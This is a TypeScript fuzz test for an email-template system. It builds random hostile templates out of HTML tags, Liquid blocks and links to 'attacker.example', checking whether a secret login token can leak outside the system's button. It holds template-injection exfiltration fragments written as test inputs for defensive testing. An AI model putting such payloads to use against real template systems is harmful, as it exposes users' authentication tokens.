import { sampleModel } from '@showdesk/domain/messaging/email-template-info';
import { type AnyNode, Comment, Document, Element, Text } from 'domhandler';
import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { secretKinds, sendStored } from '../support/hostile-templates.ts';

/**
 * Email templates built at random from the pieces an attacker would combine (HTML tags and
 * attributes with every kind of quote, raw-text elements, comments, Liquid blocks, filters,
 * captures, whitespace control) around the secret link's button: whatever the mix, a template
 * is refused, or the live token stands only in the system's button. Bounded runs; the seed is
 * printed so a failure can be replayed (FUZZ_SEED).
 */
const runs = Number(process.env.FUZZ_TEMPLATE_RUNS ?? 400);
const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);
const token = 'Fz9LiveToken0123456789abcdef';

const opening = fc.constantFrom(
  '<img src="https://attacker.example/?',
  "<img src='https://attacker.example/?",
  '<img src=https://attacker.example/?',
  '<a href="https://attacker.example/?',
  "<a href='",
  '<div style="background:url(',
  "<div style='background:url(",
  '<img srcset="a.png 1x, ',
  '<meta http-equiv="refresh" content="0;url=',
  '<!-- ',
  '<title>',
  '<textarea>',
  '<style>',
  '<script>',
  '<noscript>',
  '<xmp>',
  '<iframe srcdoc="',
  '<table><tr><td>',
  '<p>',
  '<a href="https://attacker.example/">',
  '<![CDATA[',
  '<svg><text>',
  '',
);
const closing = fc.constantFrom(
  '">',
  "'>",
  '>',
  ' -->',
  '</title>',
  '</textarea>',
  ')">',
  '</a>',
  '</p>',
  '',
  '"',
  "'",
);
const liquidAround = fc.constantFrom(
  ['', ''],
  ['{% if true %}', '{% endif %}'],
  ['{% unless false %}', '{% endunless %}'],
  ['{% case 1 %}{% when 1 %}', '{% endcase %}'],
  ['{% capture x %}', '{% endcapture %}{{ x }}'],
  ['{% capture x %}', '{% endcapture %}{{ x | url_encode }}'],
  ['{% for i in (1..2) %}', '{% endfor %}'],
  ['{% raw %}', '{% endraw %}'],
  ['{% comment %}', '{% endcomment %}'],
);
const extra = fc.constantFrom(
  '',
  '{{ SECRET }}',
  '{{ SECRET | url_encode }}',
  '{% assign y = SECRET %}{{ y }}',
  '{{ "{{" }} SECRET }}',
  '<base href="https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<p>{{ firstName }}</p>',
);
const button = fc.constantFrom(
  '{% button SECRET %}',
  '{% button SECRET "Go" %}',
  '{%- button SECRET -%}',
  "{% button SECRET, 'Go' %}",
);

const template = fc
  .tuple(extra, opening, liquidAround, button, closing, extra, fc.boolean())
  .map(([before, open, [liquidOpen, liquidClose], tag, close, after, twice]) =>
    [before, open, liquidOpen, tag, liquidClose, close, after, twice ? tag : ''].join(''),
  );

/**
 * The oracle, read with another HTML parser than the product's check (htmlparser2, not parse5),
 * so a difference between parsers shows: every token is the href of a system button
 * (`<a data-button>`) or the text of its written-out copy (`<p data-html-only>`), at least one
 * button stands, and the raw HTML holds no token that the parse did not account for.
 */
function expectOnlyInSystemButtons(html: string, link: string, body: string) {
  let allowed = 0;
  const walk = (node: AnyNode) => {
    if (node instanceof Element) {
      for (const [name, value] of Object.entries(node.attribs)) {
        if (!value.includes(token)) continue;
        expect(
          node.name === 'a' && 'data-button' in node.attribs && name === 'href' && value === link,
          `${body}: the token in <${node.name}> ${name}`,
        ).toBe(true);
        allowed++;
      }
    }
    if (node instanceof Text || node instanceof Comment) {
      if (node.data.includes(token)) {
        const parent = node.parent instanceof Element ? node.parent : null;
        expect(
          node instanceof Text &&
            node.data === link &&
            parent?.name === 'p' &&
            'data-html-only' in parent.attribs,
          `${body}: the token in the text of <${parent?.name ?? 'the page'}>`,
        ).toBe(true);
        allowed++;
      }
    }
    if (node instanceof Element || node instanceof Document) node.children.forEach(walk);
  };
  walk(parseDocument(html));
  expect(allowed, body).toBeGreaterThanOrEqual(2);
  expect(html.split(token).length - 1, body).toBe(allowed);
}

describe('fuzzing email templates around a secret link', () => {
  it.each(secretKinds)(
    '$kind: refused, or the token only in the system button',
    ({ kind, variable }) => {
      const link = `https://harbour.example.com/auth/x?mode=x&token=${token}`;
      const model = { ...sampleModel(kind), hasPassword: false, [variable]: link };
      fc.assert(
        fc.property(template, (source) => {
          const body = source.replaceAll('SECRET', variable);
          const sent = sendStored(kind, { subject: 'Hi', body }, model);
          if (!('email' in sent)) return false;
          const { html, text, subject } = sent.email;
          expectOnlyInSystemButtons(html, link, body);
          const buttons = (html.split(token).length - 1) / 2;
          expect(text.split(token).length - 1, body).toBe(buttons);
          expect(subject, body).not.toContain(token);
          return true;
        }),
        { numRuns: runs, seed },
      );
    },
  );

  it('prints its seed', () => {
    console.log(`fuzz-templates seed: ${seed} (FUZZ_SEED to replay)`);
  });
});
